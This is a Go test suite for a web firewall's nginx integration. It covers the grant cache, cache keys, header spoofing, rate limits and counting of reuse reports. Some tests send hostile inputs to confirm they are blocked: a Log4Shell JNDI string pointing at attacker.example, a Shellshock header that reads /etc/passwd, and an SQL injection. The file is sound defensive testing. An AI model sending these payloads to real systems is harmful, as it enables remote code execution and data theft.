package deploy_test

import (
	"bytes"
	"context"
	"fmt"
	"github.com/palisadehq/palisade/deploy"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/palisadehq/palisade/internal/api/reuselog"
	"github.com/palisadehq/palisade/internal/core"
	"github.com/palisadehq/palisade/internal/engine"
	"github.com/palisadehq/palisade/internal/testenv"
)

// nginxSyslogReports are the lines of docs/INTEGRATIONS.md ("Reuse
// reports") that send the reports over UDP instead (nginx on another host
// than Palisade), with Palisade's address as ADDR.
var nginxSyslogReports = [2]string{
	"access_log syslog:server=ADDR,nohostname,tag=palisade_reused palisade_reused if=$palisade_cache_hit;",
	"access_log syslog:server=ADDR,nohostname,tag=palisade_reused palisade_passed if=$palisade_report;",
}

// nginxFileReports are the shipped lines that append the reports to the
// file Palisade reads (palisade serve --reuse-file).
var nginxFileReports = [2]string{
	"access_log " + nginxReuseFile + " palisade_reused buffer=64k flush=1s if=$palisade_cache_hit;",
	"access_log " + nginxReuseFile + " palisade_passed buffer=64k flush=1s if=$palisade_report;",
}

// staticLocation is the location docs/INTEGRATIONS.md and
// palisade-static.conf's header give for a site's files.
const staticLocation = `location ~* \.(?:css|js|mjs|png|jpe?g|gif|webp|avif|svg|ico|woff2?|ttf)$ {
            include PALISADE_CONF/palisade-static.conf;
            root %s;
            try_files $uri =404;
            expires 7d;
        }`

// nginxStaticServer is nginxServer with a static-file location under the
// grant cache (palisade-static.conf) serving the files of root, and the
// server-level directives extra.
func nginxStaticServer(port int, name, key, snippet, root, upstream, extra string) string {
	return fmt.Sprintf(`
    server {
        listen 127.0.0.1:%d;
        server_name %s;
        %s
        set $palisade_key "%s";
        include PALISADE_CONF/%s;
        `+staticLocation+`
        location / { proxy_pass %s; proxy_set_header Host $host; }
    }`, port, name, extra, key, snippet, root, upstream)
}

// staticFiles writes each name (with its folders) into a new folder, each
// file saying "hello from /<name>".
func staticFiles(t *testing.T, names ...string) string {
	t.Helper()
	root := t.TempDir()
	for _, n := range names {
		p := filepath.Join(root, n)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("hello from /"+n), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(root, 0o755); err != nil {
		t.Fatal(err)
	}
	return root
}

// locationBody is the body of the location that starts with head in the
// snippet s ("" if none).
func locationBody(s, head string) string {
	i := strings.Index(s, head)
	if i < 0 {
		return ""
	}
	loc := s[i:]
	return loc[:strings.Index(loc, "\n}\n")]
}

// TestNginxSnippetsCacheOnlyStatic: in palisade.conf and
// palisade-fail-closed.conf the main auth location (and the page and
// challenge locations) pass every header and set "proxy_cache off;", so
// neither a grant cache nor a micro-cache of the server {} applies; only
// /_palisade/auth-static (palisade-static.conf's) caches, keyed on the
// website's key, the host, the method, the full URI, the protocol, the
// client address and every header of engine.CacheKeyHeaders, in order,
// passing Palisade exactly those headers besides the contract's own, to
// /forward-auth/nginx-static, and reports each cache HIT by syslog.
// palisade-static.conf sets auth_request only.
func TestNginxSnippetsCacheOnlyStatic(t *testing.T) {
	want := []string{"$palisade_key", "$host", "$request_method", "$request_uri", "$server_protocol", "$remote_addr"}
	for _, h := range engine.CacheKeyHeaders {
		want = append(want, "$http_"+strings.ReplaceAll(strings.ToLower(h), "-", "_"))
	}
	for _, f := range []string{"palisade.conf", "palisade-fail-closed.conf"} {
		b, err := os.ReadFile(filepath.Join("nginx", f))
		if err != nil {
			t.Fatal(err)
		}
		s := string(b)
		for _, head := range []string{"location = /_palisade/auth {", "location = /_palisade/nginx-page {", "location ^~ /_palisade/ {"} {
			loc := regexp.MustCompile(`(?m)^\s*#.*\n`).ReplaceAllString(locationBody(s, head), "")
			if loc == "" {
				t.Fatalf("nginx/%s: no %q", f, head)
			}
			if !strings.Contains(loc, "\n    proxy_cache off;\n") {
				t.Errorf("nginx/%s: %s lacks \"proxy_cache off;\" (a micro-cache of the server {} would apply)", f, head)
			}
			if strings.Count(loc, "proxy_cache") != 1 || strings.Contains(loc, "proxy_pass_request_headers") || strings.Contains(loc, "$http_") || strings.Contains(loc, "proxy_ignore_headers") {
				t.Errorf("nginx/%s: %s caches or filters headers", f, head)
			}
		}
		if !strings.Contains(locationBody(s, "location = /_palisade/auth {"), "proxy_pass http://palisade/forward-auth/nginx;") {
			t.Errorf("nginx/%s: the auth location does not ask /forward-auth/nginx", f)
		}
		loc := locationBody(s, "location = /_palisade/auth-static {")
		if loc == "" {
			t.Fatalf("nginx/%s: no location = /_palisade/auth-static", f)
		}
		if !strings.Contains(loc, "\n    internal;\n") || !strings.Contains(loc, "proxy_pass http://palisade/forward-auth/nginx-static;") {
			t.Errorf("nginx/%s: /_palisade/auth-static must be internal and ask /forward-auth/nginx-static", f)
		}
		if strings.Count(s, "proxy_cache palisade_grants;") != 1 {
			t.Errorf("nginx/%s: the grant cache must be in /_palisade/auth-static only", f)
		}
		m := regexp.MustCompile(`(?s)proxy_cache_key "([^"]*)";`).FindStringSubmatch(loc)
		if m == nil {
			t.Fatalf("nginx/%s: no proxy_cache_key", f)
		}
		if got := strings.Fields(m[1]); strings.Join(got, " ") != strings.Join(want, " ") {
			t.Errorf("nginx/%s: proxy_cache_key is\n%s\nwant (engine.CacheKeyHeaders)\n%s", f, strings.Join(got, " "), strings.Join(want, " "))
		}
		for _, d := range []string{"proxy_cache palisade_grants;", "proxy_cache_methods GET HEAD;", "proxy_cache_lock off;", "proxy_cache_use_stale off;",
			"proxy_ignore_headers Cache-Control Expires;", "proxy_pass_request_headers off;", "log_subrequest on;",
			nginxFileReports[0], nginxFileReports[1]} {
			if !strings.Contains(loc, "\n    "+d+"\n") {
				t.Errorf("nginx/%s: /_palisade/auth-static lacks %q", f, d)
			}
		}
		if strings.Contains(s, "proxy_cache_valid") {
			t.Errorf("nginx/%s: proxy_cache_valid would cache answers Palisade did not mark (only X-Accel-Expires may)", f)
		}
		// What the location sends: the key's headers, each from its key
		// variable, and the contract's own.
		sent := map[string]string{}
		for _, m := range regexp.MustCompile(`(?m)^    proxy_set_header (\S+) (.*);$`).FindAllStringSubmatch(loc, -1) {
			sent[http.CanonicalHeaderKey(m[1])] = m[2]
		}
		for _, h := range engine.CacheKeyHeaders {
			if v := sent[h]; v != "$http_"+strings.ReplaceAll(strings.ToLower(h), "-", "_") {
				t.Errorf("nginx/%s: %s is sent as %q, not from its key variable", f, h, v)
			}
			delete(sent, h)
		}
		own := map[string]string{"X-Palisade-Key": "$palisade_key", "X-Original-Uri": "$request_uri", "X-Original-Method": "$request_method",
			"X-Original-Host": "$host", "X-Original-Protocol": "$server_protocol", "X-Real-Ip": "$remote_addr", "Connection": `""`, "Content-Length": `""`}
		for h, v := range sent {
			if v != `""` && own[h] != v {
				t.Errorf("nginx/%s: the static auth location sends %s %s, which is neither in the key nor the contract's", f, h, v)
			}
		}
	}
	b, err := os.ReadFile(filepath.Join("nginx", "palisade-upstream.conf"))
	if err != nil {
		t.Fatal(err)
	}
	up := string(b)
	for _, d := range []string{"proxy_cache_path " + nginxCacheDir + " ", "keys_zone=palisade_grants:",
		"log_format palisade_reused 'v1 $palisade_key $upstream_http_x_palisade_reason 1';", "map $upstream_cache_status $palisade_cache_hit {",
		"log_format palisade_passed 'v1 $palisade_key humans 1';", "map $cookie_palisade_pass $palisade_pass_link {"} {
		if !strings.Contains(up, d) {
			t.Errorf("palisade-upstream.conf lacks %q", d)
		}
	}
	b, err = os.ReadFile(filepath.Join("nginx", "palisade-static.conf"))
	if err != nil {
		t.Fatal(err)
	}
	var directives []string
	for _, line := range strings.Split(string(b), "\n") {
		if l := strings.TrimSpace(line); l != "" && !strings.HasPrefix(l, "#") {
			directives = append(directives, l)
		}
	}
	if strings.Join(directives, "\n") != "auth_request /_palisade/auth-static;" {
		t.Errorf("palisade-static.conf: %q, want only auth_request /_palisade/auth-static; (the server's auth_request_set and error_page lines apply)", directives)
	}
}

// authCounter stands between nginx and Palisade and counts the verdict
// requests nginx makes, by host, URI, client address and user agent, and
// by endpoint (endpoint).
type authCounter struct {
	to string
	mu sync.Mutex
	n  map[string]int
}

func (c *authCounter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/forward-auth/nginx" || r.URL.Path == "/forward-auth/nginx-static" {
		c.mu.Lock()
		c.n[r.Header.Get("X-Original-Host")+r.Header.Get("X-Original-Uri")+" "+r.Header.Get("X-Real-Ip")+" "+r.UserAgent()]++
		c.n[r.URL.Path]++
		c.mu.Unlock()
	}
	testenv.Relay(w, r, c.to)
}

func (c *authCounter) endpoint(path string) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n[path]
}

func (c *authCounter) count(hostURI, ip, ua string) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n[hostURI+" "+ip+" "+ua]
}

// clientFrom asks nginx on loopback port from the local address ip (any
// of 127.0.0.0/8), as a browser with user agent ua and the headers hd.
func clientFrom(port int, ip string) headerGetter {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	return clientHeaderGetter(&http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, DisableKeepAlives: true},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}, port)
}

const firefoxUA = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"

// TestNginxGrantCache runs the shipped snippets with palisade-static.conf in
// a static-file location (the grant cache) in a real nginx, counting the
// verdict requests nginx makes to Palisade:
//   - a browser's repeated requests are answered from the cache (Palisade
//     sees one of five), while another query, user agent or client address
//     misses it;
//   - a challenged or denied client is never answered from it (Palisade
//     sees every request), nor a website with a rate limit (the limit
//     still refuses through nginx);
//   - a visitor cannot borrow or poison another's entry: a spoofed
//     X-Real-IP, X-Original-* or X-Forwarded-For from the visitor does not
//     change the key nginx uses (its own $remote_addr, $request_uri);
//   - a deny rule added after a grant was cached refuses the request once
//     the grant's lifetime (1 s here) has run out;
//   - while Palisade is down, a cached grant lasts at most its lifetime.
func TestNginxGrantCache(t *testing.T) {
	nginx := testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
	pal := testenv.New(t)
	pal.Protector.Engine.SetGrantCache(engine.MaxGrantCache)
	cached := pal.Website(t, "cached.example.com", remoteVisitors(engine.Settings{}))
	limited := pal.Website(t, "limited.example.com", remoteVisitors(engine.Settings{
		RateLimits: []engine.RateLimit{{Name: "Everything", Requests: 5, Period: "1m", Action: "deny"}}}))
	site := httptest.NewServer(siteWithOwnRefusals())
	defer site.Close()
	root := staticFiles(t, "page.css", "other.css", "planted.css", "soon-denied.css", "outage.css")
	counter := &authCounter{to: pal.Addr, n: map[string]int{}}
	front := httptest.NewServer(counter)
	defer front.Close()
	port := freePort(t)
	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"),
		nginxStaticServer(port, "cached.example.com", cached.ServerKey, "palisade.conf", root, site.URL, "")+
			nginxStaticServer(port, "limited.example.com", limited.ServerKey, "palisade.conf", root, site.URL, ""), nil)
	a, b := clientFrom(port, "127.0.0.1"), clientFrom(port, "127.0.0.2")
	webGetter(port).waitUp(t, "cached.example.com", "nginx")
	pagesAsked := counter.endpoint("/forward-auth/nginx") // waitUp's, through location /

	want := func(get func(host, path, ua string, hd map[string]string) (int, string), host, path, ua string, hd map[string]string, code int, what string) {
		t.Helper()
		got, body := get(host, path, ua, hd)
		if got != code || (code == 200) != strings.HasPrefix(body, "hello from ") {
			t.Fatalf("%s: %d %.200q, want %d", what, got, body, code)
		}
	}
	asked := func(hostURI, ip, ua string, n int, what string) {
		t.Helper()
		if got := counter.count(hostURI, ip, ua); got != n {
			t.Errorf("%s: Palisade was asked %d times, want %d", what, got, n)
		}
	}

	for i := 0; i < 5; i++ {
		want(a, "cached.example.com", "/page.css", chromeUA, nil, 200, "a browser")
	}
	asked("cached.example.com/page.css", "127.0.0.1", chromeUA, 1, "a browser's five requests")
	want(a, "cached.example.com", "/page.css?id=2", chromeUA, nil, 200, "another query")
	asked("cached.example.com/page.css?id=2", "127.0.0.1", chromeUA, 1, "another query")
	want(a, "cached.example.com", "/page.css", firefoxUA, nil, 200, "another user agent")
	asked("cached.example.com/page.css", "127.0.0.1", firefoxUA, 1, "another user agent")
	want(b, "cached.example.com", "/page.css", chromeUA, nil, 200, "another client address")
	asked("cached.example.com/page.css", "127.0.0.2", chromeUA, 1, "another client address")

	// Challenged and denied clients: asked every time, never served.
	for i := 0; i < 3; i++ {
		want(a, "cached.example.com", "/page.css", "curl/8.5.0", nil, 403, "curl (challenged)")
		want(a, "cached.example.com", "/page.css", "sqlmap/1.7.2#stable", nil, 403, "sqlmap (denied)")
		want(a, "cached.example.com", "/page.css?id=1'%20OR%20'1'='1", chromeUA, nil, 403, "an SQL injection (the website firewall)")
	}
	asked("cached.example.com/page.css", "127.0.0.1", "curl/8.5.0", 3, "curl, challenged three times")
	asked("cached.example.com/page.css", "127.0.0.1", "sqlmap/1.7.2#stable", 3, "sqlmap, denied three times")

	// Another visitor cannot use the browser's entry by naming its
	// address or its request: nginx keys on what it saw itself.
	spoof := map[string]string{"X-Real-Ip": "127.0.0.1", "X-Forwarded-For": "127.0.0.1", "X-Original-Uri": "/page.css", "X-Original-Host": "cached.example.com",
		"X-Original-Method": "GET", "X-Original-Protocol": "HTTP/1.1"}
	want(b, "cached.example.com", "/page.css", "sqlmap/1.7.2#stable", spoof, 403, "sqlmap at another address naming the browser's")
	want(b, "cached.example.com", "/other.css", "curl/8.5.0", spoof, 403, "curl naming the browser's cached request")
	// Nor plant an entry for another: the browser's request that follows a
	// spoofing visitor's is judged on its own.
	want(b, "cached.example.com", "/planted.css", chromeUA, map[string]string{"X-Real-Ip": "127.0.0.1"}, 200, "a browser naming another address")
	want(a, "cached.example.com", "/planted.css", "sqlmap/1.7.2#stable", nil, 403, "sqlmap after a grant for another visitor's key")

	// A rate-limited website: every request is asked, and the limit holds.
	refused := 0
	for i := 0; i < 8; i++ {
		code, _ := a("limited.example.com", "/page.css", chromeUA, nil)
		if code == 403 {
			refused++
		}
	}
	asked("limited.example.com/page.css", "127.0.0.1", chromeUA, 8, "a rate-limited website's eight requests")
	if refused != 3 {
		t.Errorf("rate limit 5 a minute through nginx with the grant cache: %d of 8 refused, want 3", refused)
	}

	// A rule change reaches a cached grant within its lifetime.
	pal.Protector.Engine.SetGrantCache(time.Second)
	want(a, "cached.example.com", "/soon-denied.css", chromeUA, nil, 200, "before the rule")
	want(a, "cached.example.com", "/soon-denied.css", chromeUA, nil, 200, "before the rule, again")
	asked("cached.example.com/soon-denied.css", "127.0.0.1", chromeUA, 1, "before the rule")
	ctx := context.Background()
	st := remoteVisitors(engine.Settings{Rules: []engine.Rule{{Name: "Soon", Action: "deny", Conditions: []engine.Condition{{Field: "path", Op: "is", Value: "/soon-denied.css"}}}}})
	if _, err := pal.Service.UpdateWebsiteSettings(ctx, pal.Caller, "cached.example.com", st, core.Match{}); err != nil {
		t.Fatal(err)
	}
	if err := pal.Protector.Reload(ctx); err != nil {
		t.Fatal(err)
	}
	// Bound: the lifetime, and slack for a loaded machine; a cache that
	// kept the grant longer (60 s, as above) would not be refused here.
	deadline := time.Now().Add(10 * time.Second)
	for {
		code, _ := a("cached.example.com", "/soon-denied.css", chromeUA, nil)
		if code == 403 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the deny rule did not reach a grant cached for 1 s within 10 s: %d", code)
		}
		time.Sleep(100 * time.Millisecond)
	}

	// Every verdict request of the static location went to its own
	// endpoint, none to the full inspection's.
	if n := counter.endpoint("/forward-auth/nginx") - pagesAsked; n != 0 {
		t.Errorf("the static location asked /forward-auth/nginx %d times", n)
	}
	// A denied visitor on a static location gets Palisade's deny page
	// (the server's auth_request_set and error_page lines apply there).
	if code, body := a("cached.example.com", "/page.css", "sqlmap/1.7.2#stable", nil); code != 403 || !pageRef.MatchString(body) || strings.Contains(body, "hello") {
		t.Errorf("sqlmap on a static file: %d %.200q, want Palisade's deny page", code, body)
	}
	// The trade-off palisade-static.conf states: there Palisade sees the
	// key's headers only. An attack in one of them is refused; one in a
	// header outside the key is not seen (a file is served, which reads no
	// header); the same request to a page (palisade.conf) is refused.
	if code, _ := a("cached.example.com", "/page.css", chromeUA, map[string]string{"Referer": "${jndi:ldap://attacker.example/a}"}); code != 403 {
		t.Errorf("Log4Shell in Referer (a key header) on a static file: %d, want 403", code)
	}
	if code, body := a("cached.example.com", "/page.css", chromeUA, map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}); code != 200 || !strings.HasPrefix(body, "hello from ") {
		t.Errorf("a header outside the key on a static file: %d %.100q; palisade-static.conf passes only the key's headers", code, body)
	}
	if code, _ := a("cached.example.com", "/page", chromeUA, map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}); code != 403 {
		t.Errorf("Log4Shell in X-Api-Version on a page (palisade.conf): %d, want 403", code)
	}

	// Palisade down: a grant cached for 1 s serves until it expires, then
	// the site is fail-open (palisade.conf) as without the cache: the
	// counter's address now refuses connections.
	want(a, "cached.example.com", "/outage.css", chromeUA, nil, 200, "before the outage")
	front.Close()
	time.Sleep(1500 * time.Millisecond)
	if code, _ := a("cached.example.com", "/outage.css", "sqlmap/1.7.2#stable", nil); code != 200 {
		t.Fatalf("fail-open while Palisade is down, with the cache: %d", code)
	}
}

// TestNginxDefaultPassesEveryHeader runs palisade.conf as shipped (no
// static location) in a server {} with a micro-cache of its own that every
// location inherits (proxy_cache, proxy_cache_valid, proxy_ignore_headers
// Cache-Control Expires, common on hosting): Palisade is asked for every
// request, with every header the visitor sent (a rule on a header outside
// the grant cache's key, and Log4Shell in X-Api-Version, refuse), and no
// verdict is reused: a bot after a browser's grant for the same URI is
// refused.
func TestNginxDefaultPassesEveryHeader(t *testing.T) {
	nginx := testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
	pal := testenv.New(t)
	pal.Protector.Engine.SetGrantCache(engine.MaxGrantCache)
	w := pal.Website(t, "shop.example.com", remoteVisitors(engine.Settings{Rules: []engine.Rule{
		{Name: "Header", Action: "deny", Conditions: []engine.Condition{{Field: "header", Header: "X-Api-Key", Op: "is", Value: "leaked"}}}}}))
	site := httptest.NewServer(siteWithOwnRefusals())
	defer site.Close()
	counter := &authCounter{to: pal.Addr, n: map[string]int{}}
	front := httptest.NewServer(counter)
	defer front.Close()
	port := freePort(t)
	micro := fmt.Sprintf(`
    proxy_cache_path %s keys_zone=site_micro:1m max_size=10m inactive=1m use_temp_path=off;`, filepath.Join(t.TempDir(), "micro"))
	server := strings.Replace(nginxServer(port, "shop.example.com", w.ServerKey, "palisade.conf", site.URL), "set $palisade_key",
		"proxy_cache site_micro; proxy_cache_valid 200 401 403 10s; proxy_ignore_headers Cache-Control Expires Set-Cookie;\n        set $palisade_key", 1)
	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"), micro+server, nil)
	webGetter(port).waitUp(t, "shop.example.com", "nginx")
	a := clientFrom(port, "127.0.0.1")
	before := counter.endpoint("/forward-auth/nginx")
	for i := 0; i < 3; i++ {
		if code, body := a("shop.example.com", "/page", chromeUA, nil); code != 200 {
			t.Fatalf("browser: %d %q", code, body)
		}
	}
	if n := counter.count("shop.example.com/page", "127.0.0.1", chromeUA); n != 3 {
		t.Errorf("Palisade was asked %d times for three requests", n)
	}
	if code, _ := a("shop.example.com", "/page", "sqlmap/1.7.2#stable", nil); code != 403 {
		t.Errorf("sqlmap after a browser's grant for the same URI, under the site's micro-cache: %d, want 403", code)
	}
	if code, _ := a("shop.example.com", "/other", "sqlmap/1.7.2#stable", nil); code != 403 {
		t.Errorf("sqlmap on another URI, under the site's micro-cache: %d, want 403", code)
	}
	// Every header reaches Palisade: a rule on one outside the key, and
	// the website firewall on any.
	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Api-Key": "leaked"}); code != 403 {
		t.Errorf("a rule on a header outside the grant cache's key: %d", code)
	}
	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}); code != 403 {
		t.Errorf("Log4Shell in a header outside the grant cache's key: %d", code)
	}
	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Custom": "() { :; }; /bin/cat /etc/passwd"}); code != 403 {
		t.Errorf("Shellshock in X-Custom: %d", code)
	}
	if n := counter.endpoint("/forward-auth/nginx") - before; n != 8 {
		t.Errorf("Palisade was asked %d times for 8 requests", n)
	}
	if n := counter.endpoint("/forward-auth/nginx-static"); n != 0 {
		t.Errorf("without a static location, /forward-auth/nginx-static was asked %d times", n)
	}
}

// TestNginxStaticReusesAreCounted: a browser loads a page (palisade.conf)
// with its 20 assets (palisade-static.conf), twice within the grant's
// lifetime. Palisade decides 22 requests (both pages, each asset once);
// nginx answers the 20 others from the grant cache and reports each, one
// line per cache HIT and none per MISS: the website's minute counters
// count all 42 requests. The host's own access log of the requests (a
// server-level access_log) still logs each of the 42 once. Both ways of
// reporting: the shipped one (a file Palisade reads, --reuse-file) and
// syslog over UDP (--reuse-addr) with the lines of docs/INTEGRATIONS.md.
func TestNginxStaticReusesAreCounted(t *testing.T) {
	nginx := testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
	for _, how := range []string{"file", "syslog"} {
		t.Run(how, func(t *testing.T) { testNginxStaticReuses(t, nginx, how) })
	}
}

// TestNginxReuseReportLinesDocumented: the syslog lines the tests run
// (nginxSyslogReports) are the ones docs/INTEGRATIONS.md gives, and the
// shipped files' report lines are the ones the tests replace.
func TestNginxReuseReportLinesDocumented(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "docs", "INTEGRATIONS.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range nginxSyslogReports {
		if doc := strings.ReplaceAll(line, "ADDR", "<palisade host>:9514"); !bytes.Contains(b, []byte("\n"+doc+"\n")) {
			t.Errorf("docs/INTEGRATIONS.md lacks the line\n%s", doc)
		}
	}
	for _, line := range nginxFileReports {
		if !bytes.Contains(b, []byte("\n"+line+"\n")) {
			t.Errorf("docs/INTEGRATIONS.md lacks the shipped line\n%s", line)
		}
		for _, f := range []string{"palisade.conf", "palisade-fail-closed.conf"} {
			c, err := os.ReadFile(filepath.Join("nginx", f))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Contains(c, []byte("\n    "+line+"\n")) {
				t.Errorf("nginx/%s lacks\n%s", f, line)
			}
		}
	}
}

func testNginxStaticReuses(t *testing.T, nginx, how string) {
	pal := testenv.New(t)
	pal.Protector.Engine.SetGrantCache(engine.MaxGrantCache)
	w := pal.Website(t, "count.example.com", remoteVisitors(engine.Settings{}))
	site := httptest.NewServer(siteWithOwnRefusals())
	defer site.Close()
	var assets []string
	for i := 0; i < 20; i++ {
		assets = append(assets, fmt.Sprintf("assets/a%02d.%s", i, []string{"css", "js", "png", "woff2"}[i%4]))
	}
	root := staticFiles(t, assets...)
	counter := &authCounter{to: pal.Addr, n: map[string]int{}}
	front := httptest.NewServer(counter)
	defer front.Close()

	reports, toReader := startReuseReader(t, pal, how)

	port := freePort(t)
	accessLog := filepath.Join(t.TempDir(), "site-access.log")
	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"),
		nginxStaticServer(port, "count.example.com", w.ServerKey, "palisade.conf", root, site.URL, "access_log "+accessLog+";"),
		toReader)
	a := clientFrom(port, "127.0.0.1")
	// Up: one asset request that is then not counted below.
	deadline := time.Now().Add(10 * time.Second)
	for {
		if code, _ := a("count.example.com", "/up.txt", chromeUA, nil); code != 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("nginx did not start")
		}
		time.Sleep(50 * time.Millisecond)
	}
	startCount := countedRequests(t, pal, "count.example.com")

	for load := 0; load < 2; load++ {
		if code, body := a("count.example.com", "/shop", chromeUA, nil); code != 200 || body != "hello from count.example.com/shop" {
			t.Fatalf("load %d: the page: %d %q", load, code, body)
		}
		for _, p := range assets {
			if code, body := a("count.example.com", "/"+p, chromeUA, nil); code != 200 || body != "hello from /"+p {
				t.Fatalf("load %d: /%s: %d %q", load, p, code, body)
			}
		}
	}
	if n, m := counter.endpoint("/forward-auth/nginx"), counter.endpoint("/forward-auth/nginx-static"); n != 3 || m != 20 {
		t.Errorf("Palisade decided %d pages (want 2, and the start-up probe) and %d assets (want 20: the second load from the cache)", n, m)
	}
	// The reports come late (nginx's buffer, a datagram): wait (bounded)
	// for the counters.
	deadline = time.Now().Add(10 * time.Second)
	var got int64
	for {
		got = countedRequests(t, pal, "count.example.com") - startCount
		if got >= 42 || time.Now().After(deadline) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(1500 * time.Millisecond) // any stray report (a MISS logged) would arrive by now: nginx flushes its buffer each second
	got = countedRequests(t, pal, "count.example.com") - startCount
	if got != 42 {
		t.Errorf("42 requests served (20 from the grant cache), %d counted in the website's statistics", got)
	}
	if s := reports.Stats(); s.Counted != 20 || s.Requests != 20 || s.UnknownKey+s.UnknownReason+s.BadLine+s.RefusedPeer+s.Oversize != 0 {
		t.Errorf("reuse reports: %+v; want 20 lines of 1 request, nothing refused", s)
	}
	b, err := os.ReadFile(accessLog)
	if err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(b, []byte("\n")); n != 43 {
		t.Errorf("the site's own access log has %d lines, want 43 (the requests, each once)", n)
	}
	if bytes.Contains(b, []byte("/_palisade/")) || bytes.Contains(b, []byte("v1 ")) {
		t.Errorf("the site's own access log got Palisade's subrequests or reports:\n%s", b)
	}
}

// startReuseReader runs a reuse report reader for pal until the test
// ends: how is "file" (a file of the test's own, as palisade serve
// --reuse-file) or "syslog" (a free loopback UDP port, as --reuse-addr).
// It returns the reader and the edit that points the shipped snippets at
// it (for startNginxFor), which fails the test when a snippet that reports
// does not have the expected lines.
func startReuseReader(t *testing.T, pal *testenv.Stack, how string) (*reuselog.Listener, func(string) string) {
	t.Helper()
	reports := reuselog.New(pal.Protector.Engine, pal.Recorder, nil, nil)
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	switch how {
	case "file":
		path := filepath.Join(t.TempDir(), "reuse.log")
		fr, err := reports.OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		done := make(chan struct{})
		go func() { fr.Run(ctx); close(done) }()
		t.Cleanup(func() { cancel(); <-done })
		return reports, func(s string) string {
			if strings.Contains(s, "log_subrequest on;") && !strings.Contains(s, nginxFileReports[0]) {
				t.Errorf("a snippet that reports lacks %q", nginxFileReports[0])
			}
			return strings.ReplaceAll(s, nginxReuseFile, path)
		}
	case "syslog":
		pc, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		go func() { _ = reports.Serve(ctx, pc) }()
		return reports, func(s string) string {
			s, n := deploy.NginxReportsToSyslog(s, pc.LocalAddr().String())
			if strings.Contains(s, "log_subrequest on;") && n != 2 {
				t.Errorf("a snippet that reports has %d of the report lines %q, want both", n, nginxFileReports)
			}
			return s
		}
	}
	t.Fatalf("startReuseReader: %q", how)
	return nil, nil
}

// countedRequests is the website's requests in its minute statistics.
func countedRequests(t *testing.T, pal *testenv.Stack, domain string) int64 {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	pal.Recorder.Flush(ctx)
	now := pal.Clock.Now()
	pts, err := pal.Service.Stats(ctx, pal.Caller, domain, "minute", now.Add(-time.Hour), now.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	var n int64
	for _, p := range pts {
		n += p.Count
	}
	return n
}
